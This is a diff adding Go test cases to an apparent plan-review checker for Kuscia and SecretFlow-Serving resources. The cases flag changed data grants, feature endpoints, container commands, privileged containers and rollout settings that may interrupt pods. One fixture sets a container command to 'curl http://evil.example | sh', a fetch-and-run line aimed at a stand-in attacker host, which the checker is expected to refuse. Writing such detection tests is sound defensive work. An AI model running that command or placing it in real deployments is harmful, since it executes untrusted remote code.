@@ -17,6 +17,30 @@ var (
 	weighted = attributes{"namespace": "alice", "name": "d", "strategy": attributes{"weight": 0}}
 )
 
+// strategy is a rolling update.
+func strategy(surge, unavailable string) attributes {
+	return attributes{"update_strategy": attributes{"type": "RollingUpdate", "max_surge": surge, "max_unavailable": unavailable}}
+}
+
+// columns are those with these names.
+func columns(names ...string) []any {
+	var all []any
+	for _, name := range names {
+		all = append(all, attributes{"name": name, "type": "str"})
+	}
+	return all
+}
+
+// features is a text for SecretFlow-Serving.
+func features(endpoint string) attributes {
+	return attributes{"serving_input_config": `{"partyConfigs":{"alice":{"modelConfig":{"modelId":"m-1"},"featureSourceConfig":{"httpOpts":{"endpoint":"` + endpoint + `"}}}}}`}
+}
+
+// container is an app image with a command.
+func container(command string) attributes {
+	return attributes{"name": "a", "image": attributes{"name": "sf", "tag": "1"}, "deploy_templates": []any{attributes{"containers": []any{attributes{"command": []any{command}}}}}}
+}
+
 // steps is the strategy of a Rollout with one step.
 func steps(step attributes) attributes { return attributes{"steps": []any{step}} }
 
@@ -169,6 +193,78 @@ var refusals = map[string]struct {
 		changes: []attributes{change("kuscia_domain_route.r", deleted, route, nil, attributes{"deposed": "12345678"})},
 	},
 
+	"granted data has a column more": {
+		failOn: "grant",
+		changes: []attributes{
+			change("kuscia_domain_data.s", updated, with(scores, "columns", columns("id", "score")), with(scores, "columns", columns("id", "score", "salary"))),
+			change("kuscia_domain_data_grant.b", same, toBob, toBob),
+		},
+		says: []string{"becomes other data: new columns `salary`; 1 grant gives it."},
+	},
+	"granted data has another column": {
+		failOn:  "grant",
+		changes: []attributes{change("kuscia_domain_data.s", updated, with(scores, "columns", columns("id", "score")), with(scores, "columns", columns("id", "salary")))},
+		says:    []string{"new columns `salary`, without the columns `score`"},
+	},
+	"columns that are known after apply": {
+		failOn:  "grant",
+		changes: []attributes{change("kuscia_domain_data.s", updated, with(scores, "columns", columns("id")), scores, unknown(attributes{"columns": true}))},
+	},
+	"granted data has another partition": {
+		failOn:  "grant",
+		changes: []attributes{change("kuscia_domain_data.s", updated, with(scores, "partition", attributes{"type": "path"}), with(scores, "partition", attributes{"type": "odps"}))},
+	},
+	"features come from elsewhere": {
+		failOn:  "grant",
+		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a"), features("http://a")), glm(party("a"), features("http://b")))},
+	},
+	"a new serving reads features": {
+		failOn: "grant", changes: []attributes{change("kuscia_serving.glm", created, nil, glm(party("a"), features("http://a")))},
+	},
+
+	// Programs.
+	"another command": {
+		failOn:  "code",
+		changes: []attributes{change("kuscia_app_image.a", updated, container("./serve"), container("curl http://evil.example | sh"))},
+		says:    []string{"This plan changes the program of the app image `a`."},
+	},
+	"another command beside another image": {
+		failOn:  "code",
+		changes: []attributes{change("kuscia_app_image.a", updated, container("./serve"), with(container("curl"), "image", attributes{"name": "sf", "tag": "2"}))},
+	},
+	"a variable that is known after apply": {
+		failOn: "code",
+		changes: []attributes{change("kuscia_app_image.a", updated, container("./serve"), attributes{"name": "a", "deploy_templates": []any{attributes{"containers": []any{attributes{}}}}},
+			unknown(attributes{"deploy_templates": []any{attributes{"containers": []any{attributes{"env": true}}}}}))},
+	},
+	"a party in another domain": {
+		failOn: "code", changes: []attributes{change("kuscia_deployment.d", updated, deployment(party("a")), deployment(party("a"), attributes{"parties": attributes{"alice": party("a"), "bob": party("a", attributes{"domain_id": "bob"})}}))},
+	},
+	"a privileged container": {
+		failOn: "code", changes: []attributes{change("kuscia_edge_deployment.e", updated, attributes{"name": "e", "host_pid": false}, attributes{"name": "e", "host_pid": true})},
+	},
+	"a new serving": {failOn: "code", changes: []attributes{change("kuscia_serving.glm", created, nil, glm(party("a")))}},
+	"an attribute that the program does not know": {
+		failOn: "unknown", changes: []attributes{change("kuscia_domain.a", updated, attributes{"domain_id": "alice", "new": 1}, attributes{"domain_id": "alice", "new": 2})},
+	},
+	"a type that the program does not know": {
+		failOn: "unknown", changes: []attributes{change("kuscia_new.a", updated, attributes{"new": 1}, attributes{"new": 2})},
+	},
+
+	// What others have changed counts as what it is.
+	"somebody gave data to another domain": {
+		failOn: "grant", fields: attributes{"resource_drift": []any{change("kuscia_domain_data_grant.b", updated, toBob, with(toBob, "grant_domain", "mallory"))}},
+	},
+	"somebody scaled a serving to 0": {
+		failOn: "interrupted", fields: attributes{"resource_drift": []any{change("kuscia_serving.glm", updated, glm(party("a")), glm(party("a", attributes{"replicas": 0})))}},
+	},
+	"somebody removed a grant": {
+		failOn: "revoke", fields: attributes{"resource_drift": []any{change("kuscia_domain_data_grant.b", deleted, toBob, nil)}},
+	},
+	"somebody changed a command": {
+		failOn: "code", fields: attributes{"resource_drift": []any{change("kuscia_app_image.a", updated, container("./serve"), container("curl"))}},
+	},
+
 	// Credentials.
 	"a certificate that is known after apply": {
 		failOn:  "credentials",
@@ -208,6 +304,30 @@ var refusals = map[string]struct {
 		failOn:  "interrupted",
 		changes: []attributes{change("kuscia_deployment.d", updated, deployment(party("a")), deployment(party("a", attributes{"replicas": 0})), secretly(attributes{"parties": attributes{"alice": attributes{"replicas": true}}}))},
 		says:    []string{"| (sensitive) | interrupted: may scale to 0 |"},
+	},
+	"all pods of a party may be unavailable": {
+		failOn:  "interrupted",
+		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", strategy("0", "100%"))), glm(party("b", strategy("0", "100%"))))},
+		says:    []string{"interrupted: restarts, because of `parties.alice.app_image`; update_strategy stops all pods first"},
+	},
+	"the only pod of a party may be unavailable": {
+		failOn: "interrupted", changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", strategy("1", "1"))), glm(party("b", strategy("1", "1"))))},
+	},
+	"no pod in addition, and none may be unavailable": { // Kubernetes takes one
+		failOn: "interrupted", changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", strategy("0", "025%"))), glm(party("b", strategy("0", "025%"))))},
+	},
+	"a sensitive number of pods that may be unavailable": {
+		failOn: "interrupted",
+		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", strategy("0", "1"))), glm(party("b", strategy("0", "1"))),
+			secretly(attributes{"parties": attributes{"alice": attributes{"update_strategy": attributes{"max_unavailable": true}}}}))},
+	},
+	"a number of pods that may be unavailable is known after apply": {
+		failOn: "interrupted",
+		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a")), glm(party("b", attributes{"update_strategy": attributes{}})),
+			unknown(attributes{"parties": attributes{"alice": attributes{"update_strategy": attributes{"max_unavailable": true}}}}))},
+	},
+	"a number of pods that this program does not understand": {
+		failOn: "interrupted", changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", strategy("0", "many"))), glm(party("b", strategy("0", "many"))))},
 	},
 	"parties that are known after apply": {
 		failOn:  "interrupted",
@@ -422,6 +542,32 @@ func TestPasses(t *testing.T) {
 		"nothing ran that replicas could stop": {
 			failOn:  "interrupted",
 			changes: []attributes{change("kuscia_deployment.d", updated, deployment(party("a", attributes{"replicas": 0})), deployment(without(party("a"), "replicas")), unknown(attributes{"parties": attributes{"alice": attributes{"replicas": true}}}))},
+		},
+		"one of two pods is always left": {
+			failOn: "interrupted", changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", strategy("0", "1"), attributes{"replicas": 2})), glm(party("b", strategy("0", "1"), attributes{"replicas": 2})))},
+		},
+		"the default strategy leaves the only pod": {
+			failOn: "interrupted", changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", strategy("25%", "25%"))), glm(party("b", strategy("25%", "25%"))))},
+		},
+		"nothing runs that could stop": {
+			failOn: "interrupted", changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", recreate, attributes{"replicas": 0})), glm(party("b", recreate, attributes{"replicas": 0})))},
+		},
+		"the plan says that no pod is new": {
+			failOn: "restart,interrupted", changes: []attributes{change("kuscia_serving.glm", updated,
+				glm(party("a", recreate, attributes{"pod_revision": 2}), attributes{"serving_input_config": "a"}), glm(party("a", recreate, attributes{"pod_revision": 2}), attributes{"serving_input_config": "b"}))},
+		},
+		"another spelling of a text for SecretFlow-Serving": {
+			failOn:  "grant,code,restart",
+			changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a"), features("http://a")), glm(party("a"), attributes{"serving_input_config": " " + features("http://a")["serving_input_config"].(string)}))},
+		},
+		"another model of SecretFlow-Serving": {
+			failOn: "grant", changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a"), features("http://a")), glm(party("a"), attributes{"serving_input_config": strings.Replace(features("http://a")["serving_input_config"].(string), "m-1", "m-2", 1)}))},
+		},
+		"another comment of a column": {
+			failOn: "grant", changes: []attributes{change("kuscia_domain_data.s", updated, with(scores, "columns", []any{attributes{"name": "id", "comment": "a"}}), with(scores, "columns", []any{attributes{"name": "id", "comment": "b"}}))},
+		},
+		"what only the server sets is known after apply": {
+			failOn: "unknown", changes: []attributes{change("kuscia_domain_data.s", created, nil, without(scores, "domaindata_id"), unknown(attributes{"domaindata_id": true, "id": true, "status": true, "author": true}))},
 		},
 		"a gradual update": {
 			failOn: "interrupted", changes: gradual, fields: configured(map[string]string{"kuscia_deployment.d": "kuscia.a", "kuscia_rollout.d": "kuscia.a"}),
